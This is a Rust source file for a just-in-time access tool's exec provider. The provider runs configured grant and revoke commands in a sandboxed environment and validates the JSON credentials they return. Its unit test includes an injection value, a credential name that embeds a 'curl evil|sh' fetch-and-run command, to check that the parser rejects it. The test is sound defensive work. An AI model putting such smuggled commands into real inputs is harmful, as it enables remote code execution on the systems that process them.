//! The `exec` provider: configured grant and revoke commands, run directly (argv, no shell).
//!
//! Protocol (documented in the README):
//! - The command gets one JSON object on stdin: `action` (`grant`, `extend` or `revoke`),
//!   `request_id`, `requester`, `requester_email`, `resource`, `expires_at` (RFC 3339), the
//!   resource's `parameters`, and for `extend`/`revoke` the `handle` and (revoke) `reason`.
//! - On success (exit 0), a grant prints a JSON object on stdout: optional `handle` (string),
//!   optional `credentials` (object of strings, shown only in the reveal modal), optional
//!   `instructions` (string, shown in the DM). Revoke's stdout is ignored.
//! - Exit status 75 (`EX_TEMPFAIL`), a timeout or a signal is a retryable failure; any other
//!   non-zero status is fatal. Stderr (truncated) is the error text. Either way the command may
//!   have acted, so a grant that ends in failure is followed by a revoke (`reason`
//!   `failed_grant`, the default handle) — except when the program could not be started at all.
//!
//! The child starts with an **empty environment** plus [`ALLOWED_ENV`] and the variables the
//! resource names in `env`: it never sees jit's secrets, its AWS credentials or the admin URLs of
//! `postgres` resources. It runs in the policy file's directory, in a process group of its own;
//! when it finishes or outlives the configured timeout the whole group is killed, so no
//! grandchild it started survives it.

use std::path::PathBuf;
use std::process::Stdio;
use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::process::Command;

use super::{Credentials, GrantSpec, Issued, Provider, ProviderError, RevokeSpec, Revoked};
use crate::domain::ids::ResourceId;
use crate::domain::policy::ExecConfig;

/// Exit status meaning "try again later" (sysexits.h).
pub const EX_TEMPFAIL: i32 = 75;

const MAX_STDOUT: usize = 64 * 1024;
const MAX_STDERR_SHOWN: usize = 2000;

/// Variables passed from jit's environment to every command (when jit has them).
pub const ALLOWED_ENV: &[&str] = &["PATH", "HOME", "LANG", "LC_ALL", "TZ"];

pub struct ExecProvider {
    resource: ResourceId,
    config: ExecConfig,
    workdir: Option<PathBuf>,
    /// Variables never passed, even when the resource names them (the admin URLs of postgres
    /// resources; the policy parser already refuses jit's own secrets).
    hidden_env: Vec<String>,
}

impl ExecProvider {
    pub fn new(resource: ResourceId, config: ExecConfig) -> Self {
        Self {
            resource,
            config,
            workdir: None,
            hidden_env: Vec::new(),
        }
    }

    /// Runs commands in `dir` (the policy file's directory), so relative paths work.
    pub fn in_dir(mut self, dir: PathBuf) -> Self {
        self.workdir = Some(dir);
        self
    }

    pub fn hiding_env(mut self, names: Vec<String>) -> Self {
        self.hidden_env = names;
        self
    }

    /// The child's whole environment: the allowlist and the resource's `env`, as far as jit
    /// has them.
    fn environment(&self) -> Vec<(String, std::ffi::OsString)> {
        ALLOWED_ENV
            .iter()
            .copied()
            .chain(self.config.env.iter().map(String::as_str))
            .filter(|name| !self.hidden_env.iter().any(|h| h == name))
            .filter_map(|name| std::env::var_os(name).map(|v| (name.to_owned(), v)))
            .collect()
    }

    async fn run(
        &self,
        argv: &[String],
        input: serde_json::Value,
    ) -> Result<Vec<u8>, ProviderError> {
        let mut command = Command::new(&argv[0]);
        command
            .args(&argv[1..])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .env_clear()
            .envs(self.environment())
            // A group of its own, so a timeout can kill everything the command started.
            .process_group(0)
            .kill_on_drop(true);
        if let Some(dir) = &self.workdir {
            command.current_dir(dir);
        }
        let program = &argv[0];
        let mut child = command.spawn().map_err(|e| {
            let text = format!("cannot start `{program}`: {e}");
            if e.kind() == std::io::ErrorKind::NotFound
                || e.kind() == std::io::ErrorKind::PermissionDenied
            {
                // Nothing ran, so nothing can have been granted.
                ProviderError::Refused(text)
            } else {
                ProviderError::Retryable(text)
            }
        })?;
        let group = child
            .id()
            .and_then(|pid| rustix::process::Pid::from_raw(pid as i32));

        let mut stdin = child.stdin.take().expect("stdin is piped");
        let mut stdout = child.stdout.take().expect("stdout is piped");
        let mut stderr = child.stderr.take().expect("stderr is piped");
        let body = input.to_string();
        let timeout = Duration::from_secs(self.config.timeout.as_secs());

        let work = async {
            // A command that does not read its stdin must not make us fail: ignore EPIPE.
            let write = async {
                let _ = stdin.write_all(body.as_bytes()).await;
                drop(stdin);
            };
            let read_out = async {
                let mut buf = Vec::new();
                let _ = (&mut stdout)
                    .take(MAX_STDOUT as u64 + 1)
                    .read_to_end(&mut buf)
                    .await;
                buf
            };
            let read_err = async {
                let mut buf = Vec::new();
                let _ = (&mut stderr).take(64 * 1024).read_to_end(&mut buf).await;
                buf
            };
            let ((), out, err) = tokio::join!(write, read_out, read_err);
            let status = child.wait().await;
            (status, out, err)
        };
        let finished = tokio::time::timeout(timeout, work).await;
        // Whatever the command left running in its group goes too: on a timeout the command
        // itself (not reaped yet, so its process group id cannot have been reused), after a
        // normal exit the grandchildren it left behind.
        if let Some(group) = group {
            let _ = rustix::process::kill_process_group(group, rustix::process::Signal::KILL);
        }
        let (status, out, err) = match finished {
            Ok(result) => result,
            Err(_) => {
                let _ = child.wait().await;
                return Err(ProviderError::Retryable(format!(
                    "`{program}` did not finish within {} and was killed, with every process it started",
                    self.config.timeout
                )));
            }
        };
        let status = status.map_err(|e| ProviderError::Retryable(format!("`{program}`: {e}")))?;
        let stderr_text = truncate(&String::from_utf8_lossy(&err));
        if status.success() {
            if out.len() > MAX_STDOUT {
                return Err(ProviderError::Fatal(format!(
                    "`{program}` printed more than {MAX_STDOUT} bytes on stdout"
                )));
            }
            return Ok(out);
        }
        let detail = if stderr_text.is_empty() {
            String::from("(no output on stderr)")
        } else {
            stderr_text
        };
        match status.code() {
            Some(EX_TEMPFAIL) => Err(ProviderError::Retryable(format!(
                "`{program}` asked to retry (exit {EX_TEMPFAIL}): {detail}"
            ))),
            Some(code) => Err(ProviderError::Fatal(format!(
                "`{program}` failed (exit {code}): {detail}"
            ))),
            None => Err(ProviderError::Retryable(format!(
                "`{program}` was killed by a signal: {detail}"
            ))),
        }
    }

    fn input(&self, action: &str, spec: &GrantSpec, handle: Option<&str>) -> serde_json::Value {
        json!({
            "action": action,
            "request_id": spec.request_id.0,
            "requester": spec.requester.key(),
            "requester_email": spec.requester_email,
            "resource": self.resource.as_str(),
            "expires_at": crate::store::format_time(spec.expires_at),
            "handle": handle,
            "parameters": self.config.parameters,
        })
    }

    fn parse_issued(&self, spec: &GrantSpec, out: &[u8]) -> Result<Issued, ProviderError> {
        let program = &self.config.grant_command[0];
        let text = String::from_utf8_lossy(out);
        let value: serde_json::Value = if text.trim().is_empty() {
            json!({})
        } else {
            serde_json::from_str(text.trim()).map_err(|e| {
                // Never echo stdout: it may hold credentials.
                ProviderError::Fatal(format!(
                    "`{program}` printed something that is not a JSON object on stdout ({e})"
                ))
            })?
        };
        let object = value.as_object().ok_or_else(|| {
            ProviderError::Fatal(format!("`{program}` must print a JSON object on stdout"))
        })?;
        let handle = match object.get("handle") {
            None | Some(serde_json::Value::Null) => self.presumed_handle(spec),
            Some(serde_json::Value::String(h)) if !h.is_empty() && h.len() <= 1024 => h.clone(),
            Some(_) => {
                return Err(ProviderError::Fatal(format!(
                    "`{program}`: `handle` must be a non-empty string of at most 1024 characters"
                )));
            }
        };
        let credentials = match object.get("credentials") {
            None | Some(serde_json::Value::Null) => None,
            Some(serde_json::Value::Object(map)) if !map.is_empty() => {
                if let Some(bad) = map.keys().find(|k| !super::is_shell_identifier(k)) {
                    // Never echo the value; the name is what is wrong.
                    return Err(ProviderError::Fatal(format!(
                        "`{program}`: credential name {:?} is not a shell variable name ([A-Za-z_][A-Za-z0-9_]*)",
                        bad.chars().take(80).collect::<String>()
                    )));
                }
                Some(Credentials::from_json_object(map))
            }
            Some(serde_json::Value::Object(_)) => None,
            Some(_) => {
                return Err(ProviderError::Fatal(format!(
                    "`{program}`: `credentials` must be a JSON object"
                )));
            }
        };
        let instructions = match object.get("instructions") {
            Some(serde_json::Value::String(s)) if !s.trim().is_empty() => Some(truncate(s)),
            _ => None,
        };
        Ok(Issued {
            handle,
            credentials,
            instructions,
            credentials_expire_at: None,
        })
    }
}

fn truncate(text: &str) -> String {
    let text = text.trim();
    if text.chars().count() <= MAX_STDERR_SHOWN {
        return text.to_owned();
    }
    let cut: String = text.chars().take(MAX_STDERR_SHOWN).collect();
    format!("{cut}… (truncated)")
}

#[async_trait::async_trait]
impl Provider for ExecProvider {
    async fn grant(&self, spec: &GrantSpec) -> Result<Issued, ProviderError> {
        let out = self
            .run(&self.config.grant_command, self.input("grant", spec, None))
            .await?;
        self.parse_issued(spec, &out)
    }

    async fn extend(&self, spec: &GrantSpec, handle: &str) -> Result<Issued, ProviderError> {
        let out = self
            .run(
                &self.config.grant_command,
                self.input("extend", spec, Some(handle)),
            )
            .await?;
        self.parse_issued(spec, &out)
    }

    /// One revoke call per distinct handle the grant was given (an extension may have
    /// returned a new one), newest first.
    async fn revoke(&self, spec: &RevokeSpec) -> Result<Revoked, ProviderError> {
        for handle in super::distinct_handles(spec) {
            let input = json!({
                "action": "revoke",
                "request_id": spec.request_id.0,
                "requester": spec.requester.key(),
                "resource": self.resource.as_str(),
                "handle": handle,
                "reason": spec.reason,
                "expires_at": crate::store::format_time(spec.natural_expiry),
                "parameters": self.config.parameters,
            });
            self.run(&self.config.revoke_command, input).await?;
        }
        Ok(Revoked::default())
    }

    /// `exec:<resource>:<requester>`: the handle of a grant whose command printed none.
    fn presumed_handle(&self, spec: &GrantSpec) -> String {
        format!("exec:{}:{}", self.resource, spec.requester.key())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::duration::GrantDuration;
    use crate::domain::ids::{RequestId, SlackUserId};
    use crate::domain::policy::Requester;

    fn provider() -> ExecProvider {
        ExecProvider::new(
            ResourceId::parse("x").unwrap(),
            ExecConfig {
                grant_command: vec!["true".into()],
                revoke_command: vec!["true".into()],
                timeout: GrantDuration::from_secs(5),
                parameters: json!({}),
                env: Vec::new(),
            },
        )
    }

    fn spec() -> GrantSpec {
        let now = chrono::Utc::now();
        GrantSpec {
            request_id: RequestId(1),
            requester: Requester::User(SlackUserId::parse("U0DEV").unwrap()),
            requester_email: None,
            resource: ResourceId::parse("x").unwrap(),
            expires_at: now,
            now,
        }
    }

    /// Credential names become shell variable names downstream: anything else is refused,
    /// as a failure that may have acted (so the grant is revoked), without echoing the value.
    #[test]
    fn credential_names_must_be_shell_identifiers() {
        let p = provider();
        let ok = p
            .parse_issued(&spec(), br#"{"credentials": {"DB_PASSWORD": "s"}}"#)
            .unwrap();
        assert_eq!(ok.credentials.unwrap().names(), ["DB_PASSWORD"]);
        let err = p
            .parse_issued(
                &spec(),
                br#"{"credentials": {"X;curl evil|sh;Y": "topsecret"}}"#,
            )
            .unwrap_err();
        assert!(err.may_have_acted());
        assert!(
            err.to_string().contains("not a shell variable name"),
            "{err}"
        );
        assert!(!err.to_string().contains("topsecret"));
    }
}
